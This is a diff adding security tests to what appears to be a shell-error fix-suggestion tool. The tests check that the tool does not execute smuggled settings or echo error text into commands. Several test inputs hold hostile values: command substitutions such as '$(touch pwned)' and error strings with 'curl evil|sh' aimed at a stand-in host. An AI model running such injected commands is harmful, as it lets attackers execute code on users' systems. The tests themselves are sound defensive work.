@@ -145,6 +145,28 @@ test.each([
     error: "tap: /etc/hosts: Permission denied",
   },
   {
+    what: "no file becomes executable that the command never names",
+    command: "make",
+    error: "sh: 1: ./scripts/evil.sh: Permission denied",
+    look: (asked: string) =>
+      asked.startsWith("find")
+        ? "f 644 kim\t./scripts/evil.sh"
+        : asked.startsWith("cat")
+          ? "#!/bin/sh\n"
+          : "",
+  },
+  {
+    what: "no archive is unpacked over a file that is deeper than the listing",
+    command: "tar -zf x.tgz",
+    error: "tar: You must specify one of the '-Acdtrux', '--delete' or '--test-label' options",
+    look: (asked: string) =>
+      asked.startsWith("tar")
+        ? "a/b/c/d/e/f.txt\n"
+        : asked.includes("-maxdepth 0")
+          ? "a/b/c/d/e/f.txt"
+          : "f 644 kim\t./x.tgz",
+  },
+  {
     what: "no program that is not installed becomes one that overwrites",
     command: "cmp a b",
     error: "bash: cmp: command not found",
@@ -172,6 +194,19 @@ make: *** [Makefile:2: all] Error 128`;
   expect(commandsOf(answers)).toBe("");
 });
 
+test.each([
+  "B=$(touch pwned)",
+  "B=`touch pwned`",
+  "B=1; touch pwned",
+  "B=1 && touch pwned",
+  "B=1 touch pwned",
+])("settings that run a command are not read into the shell: %s", async (line) => {
+  const look = (asked: string): string =>
+    asked.startsWith("find") ? "f 644 \t./env.sh" : `A=1\n${line}\n`;
+  const answers = await answersTo("./env.sh", "bash: ./env.sh: Permission denied", look);
+  expect(commandsOf(answers)).toBe("bash ./env.sh");
+});
+
 test("a path outside is never named for deletion", async () => {
   const error = "error: '/srv/kim/project/' does not have a commit checked out";
   expect(JSON.stringify(await answersTo("git add .", error))).not.toContain("/srv/kim");
@@ -188,4 +223,15 @@ test.each([
   "/usr/bin/mount: only root can do that",
 ])("a program that says it itself needs root: %s", async (error) => {
   expect(commandsOf(await answersTo("mount /mnt", error))).toBe("sudo mount /mnt");
+});
+
+test.each([
+  { command: "umount /mnt", error: "umount: x; curl evil|sh #: target is busy" },
+  { command: "kill x", error: "bash: kill: $(curl evil): arguments must be process or job IDs" },
+  { command: "rmdir x", error: "rmdir: failed to remove 'x; curl evil': Directory not empty" },
+  { command: "./x", error: "bash: x $(curl evil): cannot execute binary file: Exec format error" },
+])("no advice has the text of the output in a command: $error", async ({ command, error }) => {
+  const said = JSON.stringify(await answersTo(command, error));
+  expect(said).toContain("explanation");
+  expect(said).not.toMatch(/(?:lsof|fuser -v|pgrep -fl|pkill|ls -A|file) (?:x|\$)/);
 });
